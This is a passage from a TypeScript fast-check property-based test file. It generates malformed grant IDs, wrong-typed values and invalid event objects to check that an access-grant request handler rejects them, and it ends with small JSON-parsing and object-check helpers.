    withInput('requester not a sponsor', 'vendorId', { ...body, requester: requesters.bob }),
    fc
      .constantFrom<unknown>(...MALFORMED_GRANT_IDS)
      .map((id) => forged('grant id malformed', 'grantId', { input: { ...body, requester: dana }, grantId: id })),
    fc
      .constantFrom<unknown>(42, null, true, ['g-0123456789ab'], { grantId: 'g-0123456789ab' })
      .map((id) => forged('grant id not a string', 'grantId', { input: { ...body, requester: dana }, grantId: id })),
    fc
      .oneof(
        fc.stringMatching(/^g-[0-9a-f]{12}$/),
        fc.constantFrom<unknown>('', '*', 'G-1', '../../x', 'g-0123456789ab ', 7, null, ['g-0123456789ab']),
      )
      .chain((extendsGrant) =>
        withInput('extends a grant that is not there', 'extends', { ...body, requester: dana, extends: extendsGrant }),
      ),
    fc.constantFrom<unknown>(null, [], 'validate', 42).map((event) => forged('event not an object', 'event', event)),
    grantId.map((id) => forged('event without input', 'input', { grantId: id })),
  );
}

function parsedOrUndefined(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return undefined;
  }
}

function isObject(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}
